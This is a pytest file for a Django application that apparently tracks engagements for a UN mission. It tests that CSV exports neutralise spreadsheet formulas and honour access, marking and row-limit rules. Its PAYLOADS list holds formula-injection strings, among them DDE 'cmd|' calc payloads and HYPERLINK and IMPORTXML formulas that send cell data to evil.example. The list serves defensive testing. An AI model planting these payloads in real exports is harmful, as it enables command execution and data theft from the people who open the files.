"""Tables that leave: who takes them, what is in them, and that no spreadsheet runs any of it."""

import csv
import io
import re
import unicodedata
from datetime import timedelta

import pytest

from audit.models import Event, Kind
from engagement.exports import neutral, original, sheet
from engagement.models import Contact, Export, Request, RequestStatus
from engagement.services import emergencies
from engagement.services import exports as services
from missions.access import Marking
from missions.models import Mission, Office, Posting
from nsags.models import Group
from tests import factories
from tests.refusing import refusals, refused

pytestmark = pytest.mark.django_db

BOM = b"\xef\xbb\xbf"
SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe66")
PAYLOADS = [
    *(f"{sign}cmd|' /C calc'!A0" for sign in SIGNS),
    *(f" {sign}1+1" for sign in SIGNS),
    *(f'"{sign}1+1' for sign in SIGNS),
    *(f"'{sign}1+1" for sign in SIGNS[:5]),
    *(f"road;{sign}1+1;x" for sign in SIGNS[:4]),
    *(f"road,{sign}1+1,x" for sign in SIGNS[:4]),
    *(f"road\t{sign}1+1" for sign in SIGNS[:2]),
    *(f"road|{sign}1+1" for sign in SIGNS[:2]),
    *(f"\u200b{sign}1+1" for sign in SIGNS[:2]),
    *(f"\u00a0\u2003{sign}1+1" for sign in SIGNS[:2]),
    *(f"\u201c{sign}1+1" for sign in SIGNS[:2]),
    *(f"\ufeff{sign}1+1" for sign in SIGNS[:2]),
    '=HYPERLINK("http://evil.example?"&A1;"Open")',
    'x";"=1+1',
    'x;"=1+1"',
    "'\";=1+1",
    "=cmd|'/C calc'!A0;\"",
    "''=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "\r=1+1",
    "\t=1+1",
    "\n@x",
    "=",
    "-",
]
TRIGGERS = set("=+-@\u2212")


def runs(cell: str) -> bool:
    """Say whether a spreadsheet could take a cell for a formula: judged by what stands in it."""
    if cell.startswith("'"):
        return False  # what stands behind an apostrophe is text
    if cell[:1] in {"\t", "\r", "\n"}:
        return True
    bare = "".join(c for c in cell if unicodedata.category(c)[0] not in "ZC").lstrip(
        "\"'`\u00b4\u201c\u201d\u2018\u2019\u00ab\u00bb"
    )
    return bool(set(unicodedata.normalize("NFKC", bare[:1])) & TRIGGERS)


def cells_of(content: bytes, delimiter: str) -> list[str]:
    """Return every cell as a spreadsheet set up for one country or another finds them."""
    text = content.removeprefix(BOM).decode()
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def table_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.removeprefix(BOM).decode(), newline="")))


def take(user, access, at, of="requests", mission=None, **terms):
    said = {"starts_on": None, "ends_on": None, "purpose": "Monthly report", "recipient": "Political section"} | terms
    mission = mission or Mission.objects.get(code="MINUBEK")
    return services.export(of=of, mission=mission, by=access(user, at), at=at, **said)


def change(record, **fields) -> None:
    type(record).objects.unscoped("a test").filter(pk=record.pk).update(**fields)


@pytest.fixture
def asked(amina, at) -> Request:
    """A request that was sent on."""
    return factories.make_request(author=amina, status=RequestStatus.READY, at=at)


# --- Words stay words ----------------------------------------------------------------------------------------------


def test_there_are_at_least_sixty_payloads():
    assert len(PAYLOADS) >= 60
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_stays_a_text_however_the_file_is_split_and_comes_back_whole(payload):
    file = sheet(["A", "B"], [["before", payload]], [[payload, "after"]])

    for delimiter in (",", ";", "\t", "|"):
        assert [cell for cell in cells_of(file, delimiter) if runs(cell)] == []
    assert original(table_of(file)[1][1]) == payload


@pytest.mark.parametrize(
    "words", ["Reopen the market road", "L’accès à l’école", "Route 4, north; then east", "a'b", "", "3–4 villages"]
)
def test_ordinary_words_are_left_as_they_are(words):
    assert neutral(words) == words == original(words)


def test_no_column_of_either_table_lets_a_payload_run(amina, joseph, asked, access, at):
    contact = factories.make_contact(author=amina, group=asked.group, area=asked.area, at=at)
    texts = 0
    for payload in PAYLOADS:
        change(asked, title=payload)
        change(asked.group, name=payload[:100])
        Office.objects.filter(pk=asked.office_id).update(name=payload[:80])
        type(asked.area).objects.filter(pk=contact.area_id or asked.area_id).update(name=payload[:80])
        joseph.name = payload[:80]
        joseph.save()
        for of in Export.Of.values:
            _made, file = take(joseph, access, at, of=of)
            texts += sum(original(cell) in {payload, payload[:80], payload[:100]} for cell in cells_of(file, ","))
            for delimiter in (",", ";", "\t"):
                assert [cell for cell in cells_of(file, delimiter) if runs(cell)] == []
    # Title, group, office and name of the person; group, area and name of the person.
    assert texts >= 7 * len(PAYLOADS)


# --- What is in it -------------------------------------------------------------------------------------------------


def test_the_file_says_what_it_is_below_its_last_row(joseph, asked, access, at):
    made, file = take(joseph, access, at)
    table = table_of(file)

    footer = {row[0]: row[1] for row in table[-6:]}
    assert file.startswith(BOM)
    assert table[1][0] == asked.reference
    assert set(table[2]) == {""}
    assert footer == {
        "Marking": "UN Confidential",
        "Mission": "MINUBEK",
        "Exported by": "Joseph Addo",
        "Exported at (UTC)": "2026-03-02 09:00",
        "Export": str(made.pk),
        "Rows": "1",
    }
    assert len({len(row) for row in table}) == 1


def test_the_marking_is_the_highest_of_the_rows(amina, joseph, asked, access, at):
    other = factories.make_request(author=amina, group=asked.group, status=RequestStatus.READY, at=at)
    change(other, marking=Marking.STRICTLY_CONFIDENTIAL)

    assert take(joseph, access, at)[0].marking == Marking.STRICTLY_CONFIDENTIAL


def test_amina_takes_only_what_her_office_reads(amina, yusuf, asked, access, at):
    there = factories.make_request(author=yusuf, group=asked.group, status=RequestStatus.READY, at=at)

    references = [row[0] for row in table_of(take(amina, access, at)[1])]

    assert asked.reference in references
    assert there.reference not in references


def test_nothing_of_a_compartment_leaves_with_those_inside_it_either(joseph, mission, asked, access, at):
    change(asked, compartment=factories.make_compartment(mission=mission, owner=joseph, at=at))

    made, file = take(joseph, access, at)

    assert made.rows == 0
    assert asked.reference not in file.decode()


def test_the_name_of_a_group_in_a_compartment_is_held_back(joseph, mission, asked, access, at):
    change(asked.group, compartment=factories.make_compartment(mission=mission, owner=joseph, at=at))

    file = take(joseph, access, at)[1].decode()

    assert asked.group.name not in file
    assert "Held back" in file


def test_a_contact_does_not_name_an_approval_that_its_reader_does_not_see(amina, joseph, access, at):
    engagement = factories.make_engagement(author=amina, at=at)
    factories.make_contact(author=amina, engagement=engagement, at=at)
    change(engagement.request, marking=Marking.STRICTLY_CONFIDENTIAL)

    for user, is_named in ((joseph, True), (amina, False)):
        assert (engagement.request.reference in take(user, access, at, of="contacts")[1].decode()) == is_named


def test_who_spoke_where_and_what_was_said_stay_inside(amina, joseph, access, at):
    told = {"spokesperson": "Colonel Owl", "place": "Mission school", "summary": "They counted prisoners."}
    factories.make_contact(author=amina, at=at, **told)

    file = take(joseph, access, at, of="contacts")[1].decode()

    assert [word for word in told.values() if word in file] == []
    assert "Amina" not in file


def test_an_adviser_who_has_still_to_rate_takes_no_level(sven, amina, access, at):
    factories.make_request(author=amina, band="HIGH", status=RequestStatus.IN_ADVICE, at=at)

    assert "High" not in take(sven, access, at)[1].decode()


def test_what_is_still_being_written_stays_inside(amina, joseph, access, at):
    factories.make_request(author=amina, at=at)

    assert take(joseph, access, at)[0].rows == 0


def test_a_period_takes_what_lies_in_it_by_the_days_of_the_mission(amina, joseph, access, at):
    for days in (1, 2, 3):
        factories.make_contact(author=amina, at=at - timedelta(days=days))
    on = (at - timedelta(days=2)).date()

    assert take(joseph, access, at, of="contacts", starts_on=on, ends_on=on)[0].rows == 1
    assert take(joseph, access, at, of="contacts", starts_on=on)[0].rows == 2
    assert take(joseph, access, at, of="contacts")[0].rows == 3


# --- Who may, and how much -----------------------------------------------------------------------------------------


def log_many(number, user, mission, at) -> None:
    Contact.objects.bulk_create(
        Contact(
            reference=f"C-X{n:05}", mission=mission, office=user.postings.get().office, created_by=user, created_at=at,
            path="unplanned", happened_at=at, modality="remote", summary="x",
        )
        for n in range(number)
    )  # fmt: skip


@pytest.mark.parametrize(("name", "most"), [("amina", 50), ("odile", 500)])
def test_a_field_officer_takes_fifty_rows_and_others_five_hundred(cast, mission, access, at, name, most):
    log_many(most, cast[name], mission, at)
    assert take(cast[name], access, at, of="contacts")[0].rows == most
    log_one_more = {"reference": "C-YYYYY", "mission": mission, "office": cast[name].postings.get().office}
    Contact.objects.create(
        **log_one_more, created_by=cast[name], created_at=at, path="unplanned", happened_at=at, modality="remote"
    )

    [refusal] = refusals(take, cast[name], access, at, of="contacts")

    assert refusal.code == "too_many"
    assert str(most) in str(refusal.message)
    assert Export.objects.count() == 1


@pytest.mark.parametrize("name", ["omar", "ingrid", "maya"])
def test_who_does_not_serve_there_with_its_substance_takes_nothing(cast, access, at, name):
    assert "not_serving" in refused(take, cast[name], access, at)


def test_nothing_leaves_in_travel_mode(joseph, access, at):
    joseph.travel_ceiling = Marking.CONFIDENTIAL

    assert refused(take, joseph, access, at) == {"travelling"}


def test_nothing_leaves_during_emergency_access(yusuf, mission, access, at):
    emergencies.open_emergency(
        mission=mission, reference="", reason="other", explanation="x" * 20, by=access(yusuf), at=at
    )

    assert refused(take, yusuf, access, at) == {"emergency"}


@pytest.mark.parametrize(
    ("terms", "code"),
    [({"purpose": " "}, "no_purpose"), ({"recipient": ""}, "no_recipient"), ({"of": "groups"}, "unknown")],
)
def test_it_says_what_for_and_for_whom(joseph, access, at, terms, code):
    assert refused(take, joseph, access, at, **terms) == {code}


def test_an_export_is_an_event_that_names_the_table_and_no_value(joseph, asked, access, at):
    made, _file = take(joseph, access, at)

    event = Event.objects.get(kind=Kind.EXPORTED)
    assert (event.object_id, event.mission_id, event.fields) == (made.pk, asked.mission_id, ["requests"])


# --- Pages ---------------------------------------------------------------------------------------------------------

FORM = {"of": "requests", "mission": "MINUBEK", "purpose": "Monthly report", "recipient": "Political section"}


def test_joseph_takes_a_file_whose_name_tells_nothing(signed_in, joseph, asked):
    answer = signed_in(joseph).post("/exports/new/", FORM)

    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="export-[0-9a-f-]{36}\.csv"', answer["Content-Disposition"])
    assert "no-store" in answer["Cache-Control"]
    assert asked.reference in answer.content.decode()


def test_two_presses_are_two_files_on_record(signed_in, joseph, asked):
    browser = signed_in(joseph)

    files = [browser.post("/exports/new/", FORM).content for _n in range(2)]

    assert files[0] != files[1]
    assert Event.objects.filter(kind=Kind.EXPORTED).count() == Export.objects.count() == 2


def test_exporting_asks_first_who_sits_there(signed_in, joseph, asked, clock, at):
    browser = signed_in(joseph)
    clock(at + timedelta(minutes=6))

    assert browser.post("/exports/new/", FORM).status_code == 401
    assert not Export.objects.exists()


def test_too_many_rows_come_back_with_how_to_mend_it(signed_in, amina, mission, at):
    log_many(51, amina, mission, at)

    text = signed_in(amina).post("/exports/new/", FORM | {"of": "contacts"}).content.decode()

    assert "more than 50 rows, the most you can export. Choose a shorter period." in text
    assert "Monthly report" in text


def test_an_empty_form_says_what_is_missing(signed_in, joseph):
    text = signed_in(joseph).post("/exports/new/", {}).content.decode()

    assert "Choose requests or contacts." in text
    assert "Say what the table is for." in text


def test_a_mission_that_is_not_ones_own_is_not_offered(signed_in, joseph):
    text = signed_in(joseph).post("/exports/new/", FORM | {"mission": "UNSTOR"}).content.decode()

    assert "Choose the mission." in text
    assert not Export.objects.exists()


@pytest.mark.parametrize("name", ["ingrid", "maya"])
def test_who_reads_no_content_does_not_find_the_form(signed_in, cast, name):
    assert signed_in(cast[name]).get("/exports/new/").status_code == 404
    assert "/exports/new/" not in signed_in(cast[name]).get("/requests/").content.decode()


def test_the_auditor_reads_who_took_what_and_others_read_their_own(signed_in, joseph, pierre, otto, asked, access, at):
    made, _file = take(joseph, access, at)

    assert str(made.pk) in signed_in(otto).get("/exports/").content.decode()
    assert str(made.pk) in signed_in(joseph).get("/exports/").content.decode()
    assert str(made.pk) not in signed_in(pierre).get("/exports/").content.decode()


def test_whoever_has_left_a_mission_reads_no_more_about_what_they_took_from_it(signed_in, joseph, asked, access, at):
    made, _file = take(joseph, access, at)
    Posting.objects.filter(user=joseph).update(ends_at=at)

    page = signed_in(joseph).get("/exports/").content.decode()

    assert str(made.pk) not in page
    assert made.purpose not in page


def test_whoever_stays_without_its_substance_does_not_either(signed_in, joseph, asked, access, at):
    made, _file = take(joseph, access, at)
    Posting.objects.filter(user=joseph).update(role="information_manager")

    assert str(made.pk) not in signed_in(joseph).get("/exports/").content.decode()


def test_the_lists_lead_to_the_form_with_the_table_chosen(signed_in, amina):
    browser = signed_in(amina)

    for of in Export.Of.values:
        link = f"/exports/new/?of={of}"
        assert link in browser.get(f"/{of}/").content.decode()
        assert re.search(rf'value="{of}"[^>]* checked', browser.get(link).content.decode())


def test_a_group_of_the_table_is_read_through_the_rule(amina, joseph, asked, access, at):
    change(asked.group, marking=Marking.STRICTLY_CONFIDENTIAL)

    assert asked.group.name in take(joseph, access, at)[1].decode()
    assert asked.group.name not in take(amina, access, at)[1].decode()
    assert Group.objects.visible_to(access(amina)).count() == 0
